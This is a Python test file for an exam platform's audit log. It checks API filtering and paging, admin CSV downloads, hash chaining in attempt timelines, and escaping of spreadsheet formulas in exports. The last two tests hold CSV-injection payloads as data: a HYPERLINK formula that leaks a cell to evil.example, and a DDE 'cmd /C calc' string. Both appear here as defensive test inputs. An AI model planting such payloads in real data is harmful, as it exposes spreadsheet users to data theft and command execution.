"""The exports carry the hashes: the audit log (JSON API, admin page and CSV) and the attempt timelines."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy import text
from starlette.testclient import TestClient

from examengine.accounts.service import UserView
from examengine.audit.kinds import AuditKind
from examengine.audit.service import record
from examengine.context import Services
from tests.audit.conftest import Program, append
from tests.conftest import TEST_PASSWORD
from tests.web.browsing import log_in


def bearer(client: TestClient, email: str) -> dict[str, str]:
    token = client.post("/api/v1/auth/token", json={"email": email, "password": TEST_PASSWORD}).json()["token"]
    return {"Authorization": f"Bearer {token}"}


def test_the_audit_api_filters_by_time_and_kind_a_page_at_a_time(
    app_client: TestClient, make_user: Callable[..., UserView], services: Services
) -> None:
    make_user("ada@example.org", "admin")
    headers = bearer(app_client, "ada@example.org")  # record 2: user_created is 1
    old = datetime(2026, 1, 1, tzinfo=UTC)
    for day in range(3):
        services.db.call(
            record, kind=AuditKind.ROLE_CHANGED, actor_id=None, subject=f"user:{day}", at=old + timedelta(days=day)
        )
    everything = app_client.get("/api/v1/audit", headers=headers).json()
    assert [r["kind"] for r in everything["items"]] == ["user_created", "login_succeeded", *["role_changed"] * 3]
    assert everything["next_cursor"] is None
    first = everything["items"][0]
    assert set(first) == {"id", "at", "kind", "actor_id", "subject", "detail", "prev_hash", "hash"}
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(everything["items"]))

    window = {"since": "2026-01-02T00:00:00Z", "until": "2026-01-03T00:00:00+00:00", "kind": "role_changed"}
    inside = app_client.get("/api/v1/audit", params=window, headers=headers).json()["items"]
    assert [r["subject"] for r in inside] == ["user:1"]  # since inclusive, until exclusive
    logins = app_client.get("/api/v1/audit", params={"kind": "login_succeeded"}, headers=headers).json()["items"]
    assert len(logins) == 1

    page = app_client.get("/api/v1/audit", params={"limit": 2}, headers=headers).json()
    assert [r["id"] for r in page["items"]] == [1, 2] and page["next_cursor"] == 2
    rest = app_client.get("/api/v1/audit", params={"limit": 2, "cursor": 4}, headers=headers).json()
    assert [r["id"] for r in rest["items"]] == [5] and rest["next_cursor"] is None

    bad = app_client.get("/api/v1/audit", params={"kind": "coffee"}, headers=headers)
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "invalid_query"
    naive = app_client.get("/api/v1/audit", params={"since": "2026-01-02T00:00:00"}, headers=headers)
    assert naive.status_code == 422


def test_the_admin_page_filters_and_downloads_csv(
    app_client: TestClient, make_user: Callable[..., UserView], services: Services
) -> None:
    ada = make_user("ada@example.org", "admin", name="Ada")
    append(services, 2, kind=AuditKind.ROLE_CHANGED)
    assert log_in(app_client, ada.email, TEST_PASSWORD).status_code == 303
    page = app_client.get("/admin/audit")
    assert page.status_code == 200 and "Audit log" in page.text and "Login succeeded" in page.text
    filtered = app_client.get("/admin/audit", params={"kind": "login_succeeded"})
    assert "Ada &lt;ada@example.org&gt;" in filtered.text and "Role changed</td>" not in filtered.text
    today = datetime.now(UTC).date()
    downloaded = app_client.get(
        "/admin/audit", params={"format": "csv", "kind": "role_changed", "since": str(today), "until": str(today)}
    )
    assert downloaded.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(downloaded.text)))
    assert [r["subject"] for r in rows] == ["user:0", "user:1"]
    assert rows[1]["prev_hash"] == rows[0]["hash"] and len(rows[0]["hash"]) == 64
    yesterday = str(today - timedelta(days=1))
    none = app_client.get("/admin/audit", params={"format": "csv", "until": yesterday})
    assert len(list(csv.DictReader(io.StringIO(none.text)))) == 0
    bad = app_client.get("/admin/audit", params={"since": "23/11/2026"})
    assert bad.status_code == 422 and "YYYY-MM-DD" in bad.text


def test_attempt_timelines_carry_their_hashes(program: Program, app_client: TestClient) -> None:
    _, sitting_id = program.exam(essay=False)
    attempt_id = program.take(sitting_id, program.candidates[0], {"q1": "A"}, score=False)
    headers = bearer(app_client, program.admin.email)
    events = app_client.get(f"/api/v1/attempts/{attempt_id}/events", headers=headers).json()["events"]
    chained = [e for e in events if e["type"] != "answer_saved"]
    assert len(chained) >= 2 and all(len(e["hash"]) == 64 for e in chained)
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(chained))
    assert all(e["hash"] == e["prev_hash"] == "" for e in events if e["type"] == "answer_saved")
    assert log_in(app_client, program.admin.email, TEST_PASSWORD).status_code == 303
    as_json = app_client.get(f"/proctor/attempts/{attempt_id}", params={"format": "json"}).json()["events"]
    assert [(e["prev_hash"], e["hash"]) for e in as_json] == [(e["prev_hash"], e["hash"]) for e in events]
    as_csv = list(csv.DictReader(io.StringIO(app_client.get(f"/proctor/attempts/{attempt_id}?format=csv").text)))
    assert [r["hash"] for r in as_csv] == [e["hash"] for e in events]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_the_audit_csv_disarms_formulas_in_names_and_subjects(
    app_client: TestClient, make_user: Callable[..., UserView], services: Services
) -> None:
    ada = make_user("ada@example.org", "admin", name=FORMULA)
    services.db.call(record, kind=AuditKind.ROLE_CHANGED, actor_id=ada.id, subject="@SUM(1+1)*cmd|' /C calc'!A0")
    assert log_in(app_client, ada.email, TEST_PASSWORD).status_code == 303
    downloaded = app_client.get("/admin/audit", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(downloaded.text)))
    named = [r for r in rows if r["actor_id"] == ada.id]
    assert named and all(r["actor"] == "'" + FORMULA + " <ada@example.org>" for r in named)
    assert [r["subject"] for r in rows if r["kind"] == "role_changed"] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert not any(cell.lstrip().startswith(("=", "+", "@")) for r in rows for cell in r.values())


def test_the_timeline_csv_disarms_formulas_in_names(program: Program, app_client: TestClient) -> None:
    candidate = program.candidates[0]

    def rename(*, session: Any) -> None:
        session.execute(text("UPDATE app_user SET name = :name WHERE id = :id"), {"name": FORMULA, "id": candidate.id})

    program.services.db.call(rename)
    _, sitting_id = program.exam(essay=False)
    attempt_id = program.take(sitting_id, candidate, {"q1": "A"}, score=False)
    assert log_in(app_client, program.admin.email, TEST_PASSWORD).status_code == 303
    rows = list(csv.DictReader(io.StringIO(app_client.get(f"/proctor/attempts/{attempt_id}?format=csv").text)))
    by_candidate = [r for r in rows if FORMULA in r["actor"]]
    assert by_candidate and all(r["actor"] == "'" + FORMULA for r in by_candidate)
